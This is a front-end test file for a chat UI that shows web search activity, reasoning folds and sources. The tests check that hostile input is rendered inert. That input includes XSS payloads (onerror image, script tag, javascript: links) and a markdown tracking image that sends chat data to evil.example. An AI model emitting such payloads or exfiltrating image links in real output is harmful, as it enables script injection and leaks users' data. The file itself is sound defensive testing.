import { fireEvent, render, screen, within } from '@testing-library/react';
import { describe, expect, it } from 'vitest';
import type { Source, WebActivity } from '../src/api/types.js';
import { ActivityList } from '../src/chat/activity-row.js';
import { MessageView } from '../src/chat/message-view.js';

const source = (n: number, extra: Partial<Source> = {}): Source => ({
  title: `Result ${n}`,
  url: `https://example.org/${n}`,
  snippet: `Snippet ${n}`,
  ...extra,
});

const searched = (query: string, sources: Source[]): WebActivity => ({
  kind: 'search',
  target: query,
  ok: true,
  summary: `${sources.length} results`,
  sources,
});

const toggle = (name: RegExp) => screen.getByRole('button', { name });

describe('an activity row', () => {
  it('starts folded as "▸ searched: <query> (N results)" and shows nothing of the results', () => {
    render(<ActivityList activity={[searched('tokio release', [source(1), source(2)])]} />);
    const row = toggle(/searched: tokio release \(2 results\)/);
    expect(row.getAttribute('aria-expanded')).toBe('false');
    expect(row.textContent).toBe('▸ searched: tokio release (2 results)');
    expect(screen.queryByText('Result 1')).toBeNull();
  });

  it('opens to the sources: title, link in a new tab without referrer, date, snippet', () => {
    render(
      <ActivityList
        activity={[searched('q', [source(1, { published: '2026-11-02' }), source(2)])]}
      />,
    );
    fireEvent.click(toggle(/searched: q/));
    expect(toggle(/searched: q/).getAttribute('aria-expanded')).toBe('true');
    expect(toggle(/searched: q/).textContent?.startsWith('▾')).toBe(true);
    const link = screen.getByRole('link', { name: 'https://example.org/1' });
    expect(link.getAttribute('href')).toBe('https://example.org/1');
    expect(link.getAttribute('target')).toBe('_blank');
    expect(link.getAttribute('rel')).toBe('noopener noreferrer');
    expect(screen.getByText('2026-11-02').tagName).toBe('TIME');
    expect(screen.getByText('Snippet 2')).toBeTruthy();
  });

  it('escapes what a page wrote: markup in a title or snippet is text, other schemes are not links', () => {
    const { container } = render(
      <ActivityList
        activity={[
          searched('q', [
            source(1, {
              title: '<img src=x onerror="alert(1)"><b>bold</b>',
              snippet: '<script>alert(2)</script>',
            }),
            source(2, { url: 'javascript:alert(3)' }),
          ]),
        ]}
      />,
    );
    fireEvent.click(toggle(/searched: q/));
    expect(screen.getByText('<img src=x onerror="alert(1)"><b>bold</b>')).toBeTruthy();
    expect(screen.getByText('<script>alert(2)</script>')).toBeTruthy();
    expect(container.querySelector('img, b, script')).toBeNull();
    expect(screen.queryByRole('link', { name: 'javascript:alert(3)' })).toBeNull();
    expect(screen.getByText('javascript:alert(3)').tagName).toBe('SPAN');
  });

  it('shows the first four sources and a "show N more" row that opens the rest', () => {
    const sources = [1, 2, 3, 4, 5, 6].map((n) => source(n));
    render(<ActivityList activity={[searched('many', sources)]} />);
    fireEvent.click(toggle(/searched: many/));
    expect(screen.getAllByRole('link')).toHaveLength(4);
    fireEvent.click(screen.getByRole('button', { name: 'show 2 more' }));
    expect(screen.getAllByRole('link')).toHaveLength(6);
    expect(screen.queryByRole('button', { name: /show \d+ more/ })).toBeNull();
  });

  it('names a read by its host, with the full address in the tooltip', () => {
    const url = 'https://docs.example.org/guide/async?x=1';
    render(
      <ActivityList
        activity={[
          {
            kind: 'fetch',
            target: url,
            ok: true,
            summary: 'docs.example.org, 1,234 chars',
            sources: [{ title: 'Guide', url, snippet: '' }],
          },
        ]}
      />,
    );
    const row = toggle(/^read docs\.example\.org$/);
    expect(row.getAttribute('title')).toBe(url);
  });

  it('says why a call failed, folded and open', () => {
    render(
      <ActivityList
        activity={[
          {
            kind: 'search',
            target: 'rust',
            ok: false,
            summary: 'every provider failed',
            sources: [],
            error: 'no search provider works: duckduckgo challenged; bing_html blocked (403)',
            code: 'no_provider_works',
          },
        ]}
      />,
    );
    const row = toggle(/search failed: rust — no search provider works/);
    fireEvent.click(row);
    expect(
      screen.getByText('no search provider works: duckduckgo challenged; bing_html blocked (403)', {
        selector: 'p',
      }),
    ).toBeTruthy();
  });

  it('opens each row on its own, in one message and across messages', () => {
    const activity = [searched('first', [source(1)]), searched('second', [source(2)])];
    render(
      <>
        <MessageView message={{ role: 'assistant', content: 'A', reasoning: '', activity }} />
        <MessageView message={{ role: 'assistant', content: 'B', reasoning: '', activity }} />
      </>,
    );
    const firsts = screen.getAllByRole('button', { name: /searched: first/ });
    fireEvent.click(firsts[0] as HTMLElement);
    const expanded = screen
      .getAllByRole('button', { name: /searched:/ })
      .map((button) => button.getAttribute('aria-expanded'));
    expect(expanded).toEqual(['true', 'false', 'false', 'false']);
  });
});

describe('a reply', () => {
  it('cannot forge a control: a link imitating an activity row does nothing, raw HTML stays text', () => {
    const activity = [searched('real', [source(1)])];
    const { container } = render(
      <MessageView
        message={{
          id: 1,
          role: 'assistant',
          reasoning: 'thinking about it',
          activity,
          content: [
            'See [▸ searched: real (1 results)](#m1) and [▾ thinking](javascript:alert(1)).',
            '',
            '<button onclick="alert(2)">▸ searched: html</button>',
            '',
            '![tracking](https://evil.example/pixel.png?chat=secret)',
            '',
            '[a real page](https://example.org/page)',
          ].join('\n'),
        }}
      />,
    );
    const reply = container.querySelector('.markdown') as HTMLElement;
    // Only the real page is a link; the imitations are inert text.
    expect(
      within(reply)
        .getAllByRole('link')
        .map((link) => link.getAttribute('href')),
    ).toEqual(['https://evil.example/pixel.png?chat=secret', 'https://example.org/page']);
    const forged = within(reply).getByText('▸ searched: real (1 results)');
    expect(forged.closest('a, button')).toBeNull();
    fireEvent.click(forged);
    fireEvent.click(within(reply).getByText('▾ thinking'));
    // The real row and the reasoning are still folded.
    expect(toggle(/searched: real/).getAttribute('aria-expanded')).toBe('false');
    expect(toggle(/thinking \(/).getAttribute('aria-expanded')).toBe('false');
    // No element came from the reply's HTML, and no image is loaded from an address it chose.
    expect(reply.querySelector('button, img, script')).toBeNull();
    expect(within(reply).getByText('[image: tracking]')).toBeTruthy();
  });

  it('folds the reasoning below the activity: "▸ thinking (N chars, L lines)"', () => {
    render(
      <MessageView
        message={{
          role: 'assistant',
          content: 'answer',
          reasoning: 'line one\nline two',
          activity: [searched('q', [source(1)])],
        }}
      />,
    );
    const buttons = screen.getAllByRole('button');
    expect(buttons.map((button) => button.textContent)).toEqual([
      '▸ searched: q (1 result)',
      '▸ thinking (17 chars, 2 lines)',
    ]);
    fireEvent.click(buttons[1] as HTMLElement);
    expect(screen.getByText(/line one/).tagName).toBe('PRE');
  });
});

describe('the sources under an answer', () => {
  it('lists the pages the answer names, as the CLI does, and nothing before the answer', () => {
    const activity = [searched('q', [source(1), source(2), source(3)])];
    const { rerender } = render(
      <MessageView
        message={{ role: 'assistant', reasoning: '', activity, content: 'See example.org/2.' }}
      />,
    );
    const list = screen.getByRole('list', { name: 'Sources' });
    expect(
      within(list)
        .getAllByRole('link')
        .map((link) => link.textContent),
    ).toEqual(['Result 1', 'Result 2', 'Result 3']);
    rerender(
      <MessageView
        message={{ role: 'assistant', reasoning: '', activity, content: '' }}
        status="searching: q…"
      />,
    );
    expect(screen.queryByRole('list', { name: 'Sources' })).toBeNull();
  });
});
